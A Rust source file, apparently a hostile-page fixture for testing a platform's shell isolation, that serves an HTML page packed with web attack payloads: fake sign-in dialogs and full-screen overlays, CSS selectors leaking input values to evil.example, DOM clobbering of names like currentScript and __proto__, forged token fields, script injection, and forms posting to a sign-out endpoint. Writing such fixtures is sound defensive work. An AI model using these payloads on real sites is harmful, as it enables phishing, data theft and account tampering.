//! Tries to cover the host's shell, to look like it, or to break the host's scripts by names.

use veillee_sdk::{Call, Error, Response};

use crate::loot::raw_page;

const MAIN: &str = r#"<h1>overlay</h1>
<button commandfor="cover" command="show-modal">show</button><button popovertarget="pop">pop</button>
<dialog id="cover" open><p>Please sign in again</p></dialog><div id="pop" popover="auto">over everything</div>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">fixed</div>
<style>body{display:none} header{visibility:hidden} input[value^="a"]{background:url(http://evil.example/a)}</style>
<p class="shell-header shell-footer veillee-share outside">in the clothes of the shell</p>
<header class="shell-header"><nav><a href="/hostile/calm">Sign in</a></nav></header>
<details open name="shell"><summary>open</summary></details><div hidden="until-found" id="main">found</div>
<form name="body"><input name="parentNode"><input name="attributes"><input name="innerHTML"></form>
<img name="currentScript" src="/-/blob/id/original" alt=""><a id="document"></a><a id="customElements"></a>
<form id="location"></form><input id="veillee-token" name="veillee-token" value="forged">
<input name="veillee-choice-photos" value="forged"><input name="__proto__" value="1"><p id="__proto__"></p>
<veillee-share object="another-object" onclick="alert(1)" style="position:fixed" class="shell-header"></veillee-share>
<veillee-upload into="another-object" collection="photo" blob="original" name="veillee-token" accept="*/*"
 action="/-/sign-out" endpoint="https://evil.example/" multiple></veillee-upload>
<veillee-unknown onload="alert(1)"><script>alert(1)</script></veillee-unknown><veillee-><veillee-share object='"><script>'>
<veillee-lightbox style="position:fixed" data-reader="x" onclick="alert(1)" class="shell-header"><a href="/-/sign-out"><img
 src="https://evil.example/x.png" alt="x"></a></veillee-lightbox><veillee-confirm question="&lt;script&gt;" action="/-/sign-out">
<form method="post" action="/-/sign-out"><button>confirm</button></form></veillee-confirm>
<x-own is="veillee-share"></x-own><button is="veillee-share">is</button><slot name="shell"></slot>
<div slot="shell" part="header" exportparts="header" contenteditable autofocus accesskey="s" draggable="true">own</div>
<div inert>inert</div><marquee>moving</marquee><blink>blink</blink><frameset><frame src="/-/account"></frameset>
<object data="/-/account"></object><embed src="/-/account"><portal src="/-/account"></portal>
<input autofocus onfocus="alert(1)"><p tabindex="9999">first to focus</p><p dir="rtl">&#8238;desrever&#8236;</p>
"#;

pub fn attack(_call: &mut Call<'_>) -> Result<Response, Error> {
    Ok(raw_page("overlay", MAIN))
}
